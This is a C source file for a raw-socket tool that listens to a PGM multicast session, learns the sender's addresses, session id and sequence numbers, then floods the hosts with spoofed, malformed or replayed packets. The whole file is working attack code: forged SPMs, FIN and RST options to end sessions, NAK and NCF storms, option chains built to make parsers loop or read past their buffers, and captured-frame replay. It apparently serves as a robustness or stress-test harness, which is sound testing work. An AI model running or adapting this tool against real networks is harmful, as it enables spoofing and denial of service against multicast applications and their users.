/*
 * Listens to a PGM session, then floods its hosts with packets that are forged, malformed or recorded.
 *
 *   hostile DEVICE KIND rate=N seconds=N [seed=N] [own=A.B.C.D] [addresses=N]
 *
 * KIND is sessions, naks, same, ncfs, spms, fin, rst, fragments, options, requests, data or replay. What pretends to
 * come from the source has its address; the rest comes from our own, or from so many addresses made up. Prints what it
 * heard and what it sent. The same seed makes up the same.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define FRAME 1600
#define BATCH 64
#define KEPT 20000
#define ETH 14
#define IP (ETH + 20)
#define PGM (IP + 8)
#define LIST 62
#define MTU_PAYLOAD 1300

enum { SPM = 0, POLL = 1, ODATA = 4, RDATA = 5, NAK = 8, NCF = 10, SPMR = 12 };
enum { FRAGMENT = 1, NAK_LIST = 2, FIN = 14, RST = 15, END = 0x80 };

static struct {
    unsigned char mac[6], ip[4], group_mac[6], group[4], gsi[6];
    uint16_t udp_from, udp_to, port_from, port_to;
    uint32_t spm_sqn, lead, trail;
    int knows_data, knows_spm;
} victim;

static unsigned char own_ip[4] = {10, 77, 0, 250};
static const unsigned char own_mac[6] = {2, 0, 0, 0, 0, 66};
static long rate = 1000, seconds = 1, addresses = 1;
static uint64_t seed = 1;
static const char *kind;
static int port;

static struct {
    unsigned char data[FRAME];
    int length;
} *kept;
static long kept_count, replayed;

static uint64_t draw(void)
{
    seed ^= seed >> 12;
    seed ^= seed << 25;
    seed ^= seed >> 27;
    return seed * 2685821657736338717ULL >> 16;
}

static int64_t now_ns(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec * 1000000000LL + now.tv_nsec;
}

static void put16(unsigned char *at, unsigned value)
{
    at[0] = value >> 8;
    at[1] = value;
}

static void put32(unsigned char *at, uint32_t value)
{
    put16(at, value >> 16);
    put16(at + 2, value);
}

static uint32_t get32(const unsigned char *at)
{
    return (uint32_t) at[0] << 24 | at[1] << 16 | at[2] << 8 | at[3];
}

static unsigned checksum(const unsigned char *data, int length)
{
    uint32_t sum = 0;
    for (int i = 0; i + 1 < length; i += 2)
        sum += data[i] << 8 | data[i + 1];
    if (length % 2)
        sum += data[length - 1] << 8;
    while (sum >> 16)
        sum = (sum & 0xFFFF) + (sum >> 16);
    return ~sum & 0xFFFF;
}

/* Takes down what a frame says of the session; only that of the first source heard. */
static void learn(const unsigned char *frame, int length)
{
    const unsigned char *pgm = frame + PGM;
    if (length < PGM + 24 || frame[12] != 8 || frame[13] != 0 || frame[ETH] != 0x45 || frame[ETH + 9] != 17
            || (frame[ETH + 16] & 0xF0) != 0xE0)
        return;
    if (victim.knows_data && memcmp(victim.gsi, pgm + 8, 6) != 0)
        return;
    if (pgm[4] != ODATA && pgm[4] != SPM)
        return;
    memcpy(victim.mac, frame + 6, 6);
    memcpy(victim.group_mac, frame, 6);
    memcpy(victim.ip, frame + ETH + 12, 4);
    memcpy(victim.group, frame + ETH + 16, 4);
    memcpy(victim.gsi, pgm + 8, 6);
    victim.udp_from = frame[IP] << 8 | frame[IP + 1];
    victim.udp_to = frame[IP + 2] << 8 | frame[IP + 3];
    victim.port_from = pgm[0] << 8 | pgm[1];
    victim.port_to = pgm[2] << 8 | pgm[3];
    if (pgm[4] == ODATA) {
        victim.lead = get32(pgm + 16);
        victim.trail = get32(pgm + 20);
        victim.knows_data = 1;
    } else {
        victim.spm_sqn = get32(pgm + 16);
        victim.knows_spm = 1;
    }
    if (kept_count < KEPT && strcmp(kind, "replay") == 0 && length <= FRAME) {
        memcpy(kept[kept_count].data, frame, length);
        kept[kept_count++].length = length;
    }
}

static void listen_now(void)
{
    unsigned char frame[FRAME];
    struct sockaddr_ll from;
    socklen_t size = sizeof from;
    int length;
    for (int i = 0; i < 4 * BATCH; i++) {
        length = recvfrom(port, frame, sizeof frame, MSG_DONTWAIT, (struct sockaddr *) &from, &size);
        if (length <= 0)
            return;
        if (memcmp(frame + 6, own_mac, 6) != 0)
            learn(frame, length);
    }
}

/* Headers of all layers; answers where the PGM body goes. */
static unsigned char *start(unsigned char *frame, int type, int to_source, int as_source)
{
    unsigned char *pgm = frame + PGM;
    memset(frame, 0, PGM + 64);
    memcpy(frame, to_source ? victim.mac : victim.group_mac, 6);
    memcpy(frame + 6, own_mac, 6);
    frame[12] = 8;
    frame[ETH] = 0x45;
    frame[ETH + 8] = 1;
    frame[ETH + 9] = 17;
    memcpy(frame + ETH + 12, as_source ? victim.ip : own_ip, 4);
    if (!as_source && addresses > 1) {
        uint32_t which = draw() % addresses;
        frame[ETH + 14] = 1 + which / 250;
        frame[ETH + 15] = 1 + which % 250;
    }
    memcpy(frame + ETH + 16, to_source ? victim.ip : victim.group, 4);
    put16(frame + IP, victim.udp_from);
    put16(frame + IP + 2, victim.udp_to);
    put16(pgm, to_source ? victim.port_to : victim.port_from);
    put16(pgm + 2, to_source ? victim.port_from : victim.port_to);
    pgm[4] = type;
    memcpy(pgm + 8, victim.gsi, 6);
    return pgm + 16;
}

/* Lengths and checksums; answers the length of the frame. */
static int finish(unsigned char *frame, const unsigned char *end, int payload)
{
    unsigned char *pgm = frame + PGM;
    int length = end - pgm + payload;
    put16(pgm + 14, payload);
    put16(pgm + 6, 0);
    unsigned sum = checksum(pgm, length);
    put16(pgm + 6, sum ? sum : 0xFFFF);
    put16(frame + IP + 4, length + 8);
    put16(frame + ETH + 2, length + 28);
    put16(frame + ETH + 10, 0);
    put16(frame + ETH + 10, checksum(frame + ETH, 20));
    return PGM + length;
}

static unsigned char *address(unsigned char *at, const unsigned char *ip)
{
    put16(at, 1);
    memcpy(at + 4, ip, 4);
    return at + 8;
}

static unsigned char *spm_body(unsigned char *at, uint32_t sqn, uint32_t trail, uint32_t lead, const unsigned char *ip)
{
    put32(at, sqn);
    put32(at + 4, trail);
    put32(at + 8, lead);
    return address(at + 12, ip);
}

/* Options: the total, then one with this type and value. */
static unsigned char *option(unsigned char *pgm, unsigned char *at, int type, int flags, const uint32_t *words, int count)
{
    pgm[5] |= type == NAK_LIST ? 3 : 1;
    at[0] = 0;
    at[1] = 4;
    put16(at + 2, 8 + 4 * count);
    at[4] = type | END;
    at[5] = 4 + 4 * count;
    at[6] = 0;
    at[7] = flags;
    for (int i = 0; i < count; i++)
        put32(at + 8 + 4 * i, words[i]);
    return at + 8 + 4 * count;
}

static void random_session(unsigned char *pgm, long among)
{
    uint64_t which = draw() % among;
    put16(pgm + 8, which >> 32);
    put32(pgm + 10, which);
}

static uint32_t recent(uint32_t within)
{
    uint32_t window = victim.lead - victim.trail;
    return victim.lead - draw() % (window < within ? window + 1 : within);
}

static int sessions(unsigned char *frame)
{
    int is_spm = draw() % 2;
    unsigned char *at = start(frame, is_spm ? SPM : ODATA, 0, 0);
    random_session(frame + PGM, 1L << 48);
    if (is_spm)
        return finish(frame, spm_body(at, draw(), 1, 0, frame + ETH + 12), 0);
    put32(at, 5);
    put32(at + 4, 0);
    memset(at + 8, 7, 16);
    return finish(frame, at + 8, 16);
}

static int requests_for(unsigned char *frame, int type, uint32_t first, int count)
{
    uint32_t list[LIST];
    unsigned char *at = start(frame, type, type == NAK, type == NCF);
    put32(at, first);
    at = address(address(at + 4, victim.ip), victim.group);
    for (int i = 0; i < count; i++)
        list[i] = first + 1 + i;
    if (count > 0)
        at = option(frame + PGM, at, NAK_LIST, 0, list, count);
    return finish(frame, at, 0);
}

static int spms(unsigned char *frame, int option_type, int flags)
{
    uint32_t sqn = victim.spm_sqn + 1, trail = victim.trail, lead = victim.lead;
    unsigned char *at = start(frame, SPM, 0, 1);
    const unsigned char *path = victim.ip;
    if (option_type == 0)
        switch (draw() % 4) {
        case 0: lead += 0x7FFFFFFF; break;
        case 1: trail = lead + 1; break;
        case 2: sqn += 1 << 30; break;
        default: path = own_ip; break;
        }
    at = spm_body(at, sqn, trail, lead, path);
    if (option_type != 0)
        at = option(frame + PGM, at, option_type, flags, NULL, 0);
    return finish(frame, at, 0);
}

static int fragments(unsigned char *frame)
{
    uint32_t sqn = draw() % 64;
    uint32_t words[] = {sqn, 0, 0xFFFFFFFF};
    unsigned char *at = start(frame, ODATA, 0, 0);
    int payload = 1;
    random_session(frame + PGM, 1000);
    put32(at, sqn);
    put32(at + 4, 0);
    switch (draw() % 3) {
    case 0: words[2] = 0xFFFFFFFF; break;
    case 1: words[0] = 0; words[1] = draw() % 65536; words[2] = 1 << 20; break;
    default: words[0] = 0; words[1] = draw() % 2000; words[2] = 1000 + draw() % 2000; payload = 8; break;
    }
    at = option(frame + PGM, at + 8, FRAGMENT, 0, words, 3);
    memset(at, 9, payload);
    return finish(frame, at, payload);
}

static int options(unsigned char *frame)
{
    unsigned char *at = start(frame, draw() % 2 ? ODATA : SPM, 0, 1);
    unsigned char *pgm = frame + PGM;
    if (pgm[4] == SPM)
        at = spm_body(at, victim.spm_sqn + 1, victim.trail, victim.lead, victim.ip);
    else
        at += 8;
    pgm[5] = 1;
    memset(at, 0, 200);
    at[1] = 4;
    switch (draw() % 3) {
    case 0: /* no length: a walk that only adds would never end */
        put16(at + 2, 64);
        at[4] = 0x20;
        return finish(frame, at + 64, 0);
    case 1: /* forty of them */
        put16(at + 2, 164);
        for (int i = 1; i <= 40; i++) {
            at[4 * i] = 0x20;
            at[4 * i + 1] = 4;
        }
        return finish(frame, at + 164, 0);
    default: /* past the end */
        put16(at + 2, 8);
        at[4] = 0x20 | END;
        at[5] = 252;
        return finish(frame, at + 8, 0);
    }
}

static int requests(unsigned char *frame)
{
    int to_source = draw() % 2;
    unsigned char *at = start(frame, to_source ? SPMR : POLL, to_source, 0);
    if (to_source)
        return finish(frame, at, 0);
    put32(at, draw());
    put16(at + 4, draw());
    put16(at + 6, 0);
    at = address(at + 8, own_ip);
    put32(at, 1000000);
    put32(at + 4, draw());
    put32(at + 8, 0);
    return finish(frame, at + 12, 0);
}

static int data(unsigned char *frame)
{
    unsigned char *at = start(frame, draw() % 2 ? ODATA : RDATA, 0, 0);
    put32(at, victim.lead + 1 + draw() % 20 - 10);
    put32(at + 4, victim.trail);
    memset(at + 8, 0x66, MTU_PAYLOAD);
    return finish(frame, at + 8, MTU_PAYLOAD);
}

static int replay(unsigned char *frame)
{
    long which = replayed++ % kept_count;
    memcpy(frame, kept[which].data, kept[which].length);
    memcpy(frame + 6, own_mac, 6);
    return kept[which].length;
}

static int forge(unsigned char *frame)
{
    if (strcmp(kind, "sessions") == 0)
        return sessions(frame);
    if (strcmp(kind, "naks") == 0)
        return requests_for(frame, NAK, recent(4000) - LIST, LIST);
    if (strcmp(kind, "same") == 0)
        return requests_for(frame, NAK, victim.lead & ~1023u, 0);
    if (strcmp(kind, "ncfs") == 0)
        return requests_for(frame, NCF, victim.lead - 40, LIST);
    if (strcmp(kind, "spms") == 0)
        return spms(frame, 0, 0);
    if (strcmp(kind, "fin") == 0)
        return spms(frame, FIN, 0);
    if (strcmp(kind, "rst") == 0)
        return spms(frame, RST, 0x40);
    if (strcmp(kind, "fragments") == 0)
        return fragments(frame);
    if (strcmp(kind, "options") == 0)
        return options(frame);
    if (strcmp(kind, "requests") == 0)
        return requests(frame);
    if (strcmp(kind, "data") == 0)
        return data(frame);
    if (strcmp(kind, "replay") == 0)
        return replay(frame);
    fprintf(stderr, "unknown kind: %s\n", kind);
    exit(2);
}

static long flood(void)
{
    static unsigned char frames[BATCH][FRAME];
    struct iovec parts[BATCH];
    struct mmsghdr messages[BATCH];
    long sent = 0, total = rate * seconds;
    int64_t began = now_ns();
    int64_t end = began + seconds * 1000000000LL;
    memset(messages, 0, sizeof messages);
    while (sent < total && now_ns() < end) {
        long due = (long) ((double) (now_ns() - began) * rate / 1e9) + 1 - sent;
        int count = due > BATCH ? BATCH : due;
        listen_now();
        for (int i = 0; i < count; i++) {
            parts[i].iov_base = frames[i];
            parts[i].iov_len = forge(frames[i]);
            messages[i].msg_hdr.msg_iov = &parts[i];
            messages[i].msg_hdr.msg_iovlen = 1;
        }
        if (count > 0) {
            int done = sendmmsg(port, messages, count, 0);
            sent += done > 0 ? done : 0;
        } else {
            nanosleep(&(struct timespec) {.tv_nsec = 200000}, NULL);
        }
    }
    return sent;
}

int main(int argc, char **argv)
{
    struct sockaddr_ll where = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
    struct packet_mreq every_frame = {.mr_type = PACKET_MR_PROMISC};
    int one = 1, room = 8 << 20;
    long sent;

    if (argc < 3)
        return 2;
    kind = argv[2];
    for (int i = 3; i < argc; i++) {
        unsigned char a[4];
        if (sscanf(argv[i], "rate=%ld", &rate) == 1 || sscanf(argv[i], "seconds=%ld", &seconds) == 1
                || sscanf(argv[i], "addresses=%ld", &addresses) == 1 || sscanf(argv[i], "seed=%lu", &seed) == 1)
            continue;
        if (sscanf(argv[i], "own=%hhu.%hhu.%hhu.%hhu", &a[0], &a[1], &a[2], &a[3]) == 4)
            memcpy(own_ip, a, 4);
        else
            return 2;
    }
    seed = seed * 2654435761ULL + 1;
    kept = malloc(KEPT * sizeof *kept);
    port = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    where.sll_ifindex = every_frame.mr_ifindex = if_nametoindex(argv[1]);
    if (port < 0 || kept == NULL || bind(port, (struct sockaddr *) &where, sizeof where) < 0)
        return 1;
    setsockopt(port, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &every_frame, sizeof every_frame);
    setsockopt(port, SOL_PACKET, PACKET_IGNORE_OUTGOING, &one, sizeof one);
    setsockopt(port, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof room);
    for (int64_t until = now_ns() + 1000000000LL; !victim.knows_data || !victim.knows_spm || now_ns() < until;) {
        listen_now();
        nanosleep(&(struct timespec) {.tv_nsec = 1000000}, NULL);
    }
    printf("READY lead=%u spm=%u kept=%ld\n", victim.lead, victim.spm_sqn, kept_count);
    fflush(stdout);
    sent = flood();
    printf("FLOODED packets=%ld\n", sent);
    return 0;
}
